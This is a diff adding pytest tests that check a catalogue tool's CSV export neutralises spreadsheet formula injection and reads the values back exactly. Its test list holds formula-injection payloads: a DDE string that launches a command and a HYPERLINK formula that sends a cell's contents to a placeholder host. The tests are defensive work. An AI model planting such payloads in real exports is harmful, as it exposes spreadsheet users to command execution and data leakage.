@@ -1,0 +1,61 @@
+"""Unsafe output closed: formulas in CSV, markup and escapes in what is printed, symlinks."""
+
+from __future__ import annotations
+
+import csv
+import io
+from pathlib import Path
+
+import pytest
+
+from catalogue.export import inert, rows_to_csv
+from catalogue.jd_sources import read_cell
+from tests.support import query, run
+
+HOSTILE_TITLES = [
+    '=HYPERLINK("http://x/?"&A1)',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "\tTabbed",
+    "'=already guarded",
+    "Plain title",
+]
+
+
+@pytest.mark.parametrize("text", HOSTILE_TITLES)
+def test_a_cell_a_spreadsheet_would_run_is_inert_and_reads_back_exactly(text: str) -> None:
+    cell = inert(text)
+    assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r")
+    assert read_cell(cell) == text
+
+
+def test_every_csv_export_neutralises_formulas_and_imports_back_exactly(
+    empty_catalogue: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    rows = "".join(
+        f'RRK,H{index},"{title.replace(chr(34), chr(34) * 2)}",5\r\n'
+        for index, title in enumerate(HOSTILE_TITLES)
+    )
+    source = tmp_path / "hostile.csv"
+    source.write_text("trust,jd_ref,title,band\r\n" + rows, encoding="utf-8")
+    db = str(empty_catalogue)
+    assert run(capsys, "import", str(source), "--db", db)[0] == 0
+    code, out, _ = run(capsys, "export", "jds", "--format", "csv", "--db", db)
+    cells = [row[2] for row in csv.reader(io.StringIO(out))][1:]
+    assert all(cell[:1] not in "=+-@\t\r" for cell in cells), cells
+    again = tmp_path / "again.csv"
+    again.write_text(out, encoding="utf-8")
+    code, out, _ = run(capsys, "import", str(again), "--format", "json", "--db", db)
+    assert '"updated": 0' in out
+    stored = {row[0] for row in query(empty_catalogue, "SELECT title FROM job_description")}
+    # As a spreadsheet means them: a leading apostrophe keeps a formula as text.
+    assert stored == {read_cell(title).strip() for title in HOSTILE_TITLES}
+    # The listings' CSV too.
+    code, out, _ = run(capsys, "variation", "--format", "csv", "--db", db)
+    assert "\n=" not in out and ",=" not in out
+
+
+def test_rows_to_csv_leaves_numbers_alone() -> None:
+    text = rows_to_csv([{"band": "5", "wte": -0.5, "title": "-x"}])
+    assert text.splitlines()[1] == "5,-0.5,'-x"
